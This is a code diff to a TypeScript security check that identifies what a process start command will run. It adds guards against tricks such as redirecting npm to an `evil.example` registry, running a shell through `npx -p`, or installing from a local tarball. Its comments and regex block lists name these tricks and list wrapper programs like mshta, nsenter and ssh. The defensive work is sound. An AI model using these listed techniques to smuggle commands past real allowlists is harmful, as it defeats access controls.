@@ -2,20 +2,9 @@ import semver from 'semver';
 
 import type { PackageType } from '../model/allowlist.js';
 import { quote } from '../quote.js';
-
-/** What a start command will run, as far as the command tells. */
-export type LaunchIdentity =
-  | {
-      readonly kind: 'package';
-      readonly type: PackageType;
-      readonly name: string;
-      /** As asked for: a version, a range, a tag; `undefined` where none is. */
-      readonly requested: string | undefined;
-    }
-  | { readonly kind: 'image'; readonly repository: string; readonly digest: string | undefined }
-  /** `file` is a program as a shell would find it, or a script as its interpreter would. */
-  | { readonly kind: 'executable'; readonly file: string; readonly isScript: boolean }
-  | { readonly kind: 'unknown'; readonly why: string };
+import { identifyImage } from './identify-image.js';
+import { isDecisive, type LaunchIdentity, unknownLaunch as unknown } from './launch-identity.js';
+import { readOptions } from './read-options.js';
 
 /** How a process is started, as far as it decides what runs. */
 interface Command {
@@ -29,7 +18,7 @@ interface Command {
  * another package, another registry or another program.
  */
 export function identifyLaunch({ command, args, env }: Command): LaunchIdentity {
-  const decisive = Object.keys(env).find((variable) => DECISIVE.test(variable));
+  const decisive = Object.keys(env).find(isDecisive);
   if (decisive !== undefined) return unknown(`its variable ${quote(decisive, 60)} can make it run something else`);
   const name = programName(command);
   const identify = RUNNERS.get(name);
@@ -37,10 +26,6 @@ export function identifyLaunch({ command, args, env }: Command): LaunchIdentity 
   if (isInterpreter(name)) return identifyScript(name, args);
   return { kind: 'executable', file: command, isScript: false };
 }
-
-/** Variables with which a program loads other code, or takes packages from elsewhere. */
-const DECISIVE =
-  /^(?:PATH|PATHEXT|COMSPEC|HOME|USERPROFILE|XDG_.*|LD_.*|DYLD_.*|NODE_.*|NPM_.*|PNPM_.*|YARN_.*|BUN_.*|DENO_.*|COREPACK_.*|PYTHON.*|PIP_.*|PIPX_.*|UV_.*|VIRTUAL_ENV|RUBY.*|PERL.*|LUA_.*|PHP.*|JAVA_.*|JDK_.*|CLASSPATH|DOTNET_.*|BASH_ENV|ENV|ZDOTDIR|SHELLOPTS|IFS|PS4|DOCKER_.*|CONTAINER.*|GIT_.*|SSL_CERT_.*|HTTPS?_PROXY|ALL_PROXY)$/i;
 
 /**
  * Returns the runner or interpreter that a command names by its path, `undefined` where it names none or none by its path. A file
@@ -51,13 +36,20 @@ export function toolByPath(command: string): string | undefined {
   return /[/\\]/.test(command) && (RUNNERS.has(name) || isInterpreter(name)) ? name : undefined;
 }
 
-/** Whether a program runs whatever script it is given, so that allowing it would allow everything. */
+/** Whether a program runs whatever script or command it is given, so that allowing it would allow everything. */
 export function isInterpreter(program: string): boolean {
-  return INTERPRETER.test(programName(program));
+  return INTERPRETER.test(programName(program)) || isWrapper(programName(program));
 }
 
 const INTERPRETER =
-  /^(?:node|nodejs|deno|bun|tsx|ts-node|python|pythonw|pypy|ruby|perl|php|lua|Rscript|java|dotnet|sh|bash|dash|zsh|fish|ksh|pwsh|powershell|env|sudo|xargs|busybox)(?:[\d.]+)?$/i;
+  /^(?:node|nodejs|deno|bun|tsx|ts-node|python|pythonw|pypy|ruby|perl|php|php-cgi|lua|luajit|Rscript|julia|dotnet|elixir|escript|guile|racket|tclsh|expect|osascript|cscript|wscript|sh|bash|dash|ash|zsh|fish|ksh|csh|tcsh|pwsh|powershell)(?:[\d.]+)?$/i;
+
+/** Their first argument is no script but a command, a class or code. */
+function isWrapper(name: string): boolean {
+  return /^(?:java|groovy|scala|go|cargo|make|awk|gawk|mawk|env|sudo|doas|su|runuser|xargs|busybox|toybox|timeout|nice|ionice|nohup|setsid|stdbuf|time|chroot|unshare|nsenter|setpriv|capsh|bwrap|firejail|strace|ltrace|gdb|flock|script|watch|parallel|find|ssh|tini|dumb-init|systemd-run|rundll32|mshta)$/i.test(
+    name,
+  );
+}
 
 function programName(command: string): string {
   const base = command.split(/[/\\]/).at(-1) ?? command;
@@ -70,7 +62,7 @@ const RUNNERS: ReadonlyMap<string, Identify> = new Map([
   ['npx', (args) => identifyNpm(args)],
   ['pnpx', (args) => identifyNpm(args)],
   ['bunx', (args) => identifyNpm(args.filter((arg) => arg !== '--bun'))],
-  ['npm', (args) => after(args, [['exec'], ['x']], identifyNpm)],
+  ['npm', (args) => after(args, [['exec'], ['x']], identifyNpmExec)],
   ['pnpm', (args) => after(args, [['dlx']], identifyNpm)],
   ['yarn', (args) => after(args, [['dlx']], identifyNpm)],
   ['uvx', (args) => identifyPython(args, '--from')],
@@ -95,31 +87,61 @@ function after(
 function identifyShell([option, command, ...args]: readonly string[]): LaunchIdentity {
   if (option?.toLowerCase() !== '/c' || command === undefined) return unknown('a shell runs whatever it is told');
   if (args.some((arg) => /[&|<>^%]/.test(arg))) return unknown('it has characters that a shell acts on');
+  // Attack: a file of any content under the name of a runner. Only what a command names itself is compared with this machine's.
+  if (toolByPath(command) !== undefined) return unknown(`${quote(command, 60)} is named by its path within a shell`);
   return identifyLaunch({ command, args, env: {} });
 }
 
 const QUIET = ['-y', '--yes', '-q', '--quiet', '--prefer-offline'];
 
+const NPM_OPTIONS = { flags: QUIET, naming: ['-p', '--package'] };
+
 function identifyNpm(args: readonly string[]): LaunchIdentity {
-  const { named, rest, problem } = readOptions(args, { flags: QUIET, naming: ['-p', '--package'] });
+  const { named, rest, problem } = readOptions(args, NPM_OPTIONS);
   if (problem !== undefined) return unknown(problem);
-  if (named.length > 1) return unknown('it installs several packages');
-  return npmPackage(named[0] ?? rest[0]);
+  const [first, ...others] = named;
+  if (others.length > 0) return unknown('it installs several packages');
+  if (first === undefined) return npmPackage(rest[0]);
+  return withProgram(npmPackage(first), rest[0] ?? '');
+}
+
+/** Attack: `npm exec good --registry=https://evil.example`. Unlike the others, npm takes options behind the package for its own. */
+function identifyNpmExec(args: readonly string[]): LaunchIdentity {
+  const end = args.indexOf('--');
+  const { rest } = readOptions(end === -1 ? args : args.slice(0, end), NPM_OPTIONS);
+  const late = rest.find((arg) => arg.startsWith('-'));
+  if (late !== undefined) return unknown(`npm takes ${quote(late, 60)} for itself: write -- before the package`);
+  return identifyNpm(args);
+}
+
+/** Attack: `npx -p good sh -c …`. The program need not be the package's: any that is installed here will do. */
+function withProgram(identity: LaunchIdentity, program: string): LaunchIdentity {
+  if (identity.kind !== 'package') return identity;
+  const own = identity.name.replace(/^@[^/]*\//, '');
+  if (program === own || (identity.type === 'pypi' && pythonName(program) === own)) return identity;
+  return unknown(`${quote(program, 60)} may be another program than that of ${quote(identity.name, 80)}`);
 }
 
 function npmPackage(spec: string | undefined): LaunchIdentity {
   const [, name, requested] = /^((?:@[a-z0-9~-][\w.~-]*\/)?[a-z0-9~-][\w.~-]*)(?:@(.+))?$/i.exec(spec ?? '') ?? [];
   if (name === undefined) return unknown(`${quote(spec ?? '')} is no package of a registry`);
-  if (requested !== undefined && !/^[\w.^~<>=*| +-]+$/.test(requested))
-    return unknown(`${quote(requested)} is no version`);
+  if (requested !== undefined && !isVersionOrTag(requested)) return unknown(`${quote(requested)} is no version`);
   return { kind: 'package', type: 'npm', name, requested };
+}
+
+/** Attack: `npx good@.` and `npx good@evil.tgz` run what lies in the folder, whatever its name is. */
+function isVersionOrTag(requested: string): boolean {
+  if (/^[a-z][\w-]*$/i.test(requested)) return true;
+  return /^[\w.^~<>=*| +-]+$/.test(requested) && semver.validRange(requested) !== null;
 }
 
 function identifyPython(args: readonly string[], naming: string): LaunchIdentity {
   const { named, rest, problem } = readOptions(args, { flags: ['-q', '--quiet'], naming: [naming] });
   if (problem !== undefined) return unknown(problem);
-  if (named.length > 1) return unknown('it installs several packages');
-  return pythonPackage(named[0] ?? rest[0]);
+  const [first, ...others] = named;
+  if (others.length > 0) return unknown('it installs several packages');
+  if (first === undefined) return pythonPackage(rest[0]);
+  return withProgram(pythonPackage(first), rest[0] ?? '');
 }
 
 function pythonPackage(spec: string | undefined): LaunchIdentity {
@@ -133,77 +155,20 @@ export function pythonName(name: string): string {
   return name.toLowerCase().replace(/[-_.]+/g, '-');
 }
 
-function identifyImage(args: readonly string[]): LaunchIdentity {
-  const { rest, problem } = readOptions(args, { flags: IMAGE_FLAGS, valued: IMAGE_OPTIONS });
-  if (problem !== undefined) return unknown(problem);
-  const [, repository, digest] = /^([^@\s]+?)(?::[\w.-]+)?(?:@(sha256:[0-9a-f]{64}))?$/.exec(rest[0] ?? '') ?? [];
-  if (repository === undefined) return unknown('it names no image');
-  return { kind: 'image', repository, digest };
-}
-
-/** Options of `docker run` that take no value, and those that take one; of what is in neither, nobody knows where the image begins. */
-const IMAGE_FLAGS =
-  `-i --interactive -t --tty -it -ti -d --detach --rm --init --read-only -P --publish-all -q --quiet --no-healthcheck`.split(
-    ' ',
-  );
-const IMAGE_OPTIONS =
-  `-e --env --env-file -v --volume --mount --name --network --net -p --publish -u --user -w --workdir --platform --pull -m --memory
-   --memory-swap --cpus -l --label --label-file -h --hostname --add-host --cap-drop --cap-add --security-opt --tmpfs --ulimit --shm-size --pids-limit
-   --log-driver --log-opt --stop-timeout --gpus --device --dns --runtime --restart --expose --group-add --userns --ipc --pid`.split(
-    /\s+/,
-  );
-
 function identifyScript(interpreter: string, args: readonly string[]): LaunchIdentity {
   const [script] = args;
   if (script === undefined || script.startsWith('-'))
     return unknown(`${interpreter} is given options before the script, which could run anything`);
   if (SUBCOMMANDS.has(script)) return unknown(`${interpreter} ${script} runs whatever it is told`);
-  if (/^(?:env|sudo|xargs|busybox)$/i.test(interpreter)) return unknown(`${interpreter} runs whatever it is told`);
+  if (isWrapper(interpreter)) return unknown(`${interpreter} runs whatever it is told`);
+  // Attack: `bun start` runs the script of that name in package.json, and not the file.
+  if (/^bun$/i.test(interpreter) && !/[/\\]/.test(script))
+    return unknown(`bun takes ${quote(script, 60)} for a script of package.json: write ./ before it`);
   return { kind: 'executable', file: script, isScript: true };
 }
 
 /** Of `deno`, `bun`, `dotnet`: not the name of a script. */
 const SUBCOMMANDS = new Set(['run', 'x', 'exec', 'eval', 'task', 'serve', 'tool', 'watch']);
-
-interface OptionKinds {
-  /** They take no value. */
-  readonly flags: readonly string[];
-  /** They take a value that does not decide what runs. */
-  readonly valued?: readonly string[];
-  /** Their values are what is installed. */
-  readonly naming?: readonly string[];
-}
-
-/** Reads options up to the first argument that is none. */
-function readOptions(
-  args: readonly string[],
-  { flags, valued = [], naming = [] }: OptionKinds,
-): { readonly named: readonly string[]; readonly rest: readonly string[]; readonly problem?: string } {
-  const named: string[] = [];
-  let at = 0;
-  for (; at < args.length; at += 1) {
-    const arg = args[at] ?? '';
-    if (arg === '--') return { named, rest: args.slice(at + 1) };
-    if (!arg.startsWith('-')) break;
-    const [option, inline] = arg.startsWith('--') ? splitOnce(arg) : [arg];
-    if (flags.includes(arg)) continue;
-    const isNaming = naming.includes(option);
-    if (!isNaming && !valued.includes(option))
-      return { named, rest: [], problem: `of its option ${quote(option, 60)} it is not known what it does` };
-    const value = inline ?? args[(at += 1)] ?? '';
-    if (isNaming) named.push(value);
-  }
-  return { named, rest: args.slice(at) };
-}
-
-function splitOnce(arg: string): readonly [string, string?] {
-  const at = arg.indexOf('=');
-  return at === -1 ? [arg] : [arg.slice(0, at), arg.slice(at + 1)];
-}
-
-function unknown(why: string): LaunchIdentity {
-  return { kind: 'unknown', why };
-}
 
 /** Whether what is asked for can only be one version. */
 export function isExactVersion(type: PackageType, requested: string): boolean {
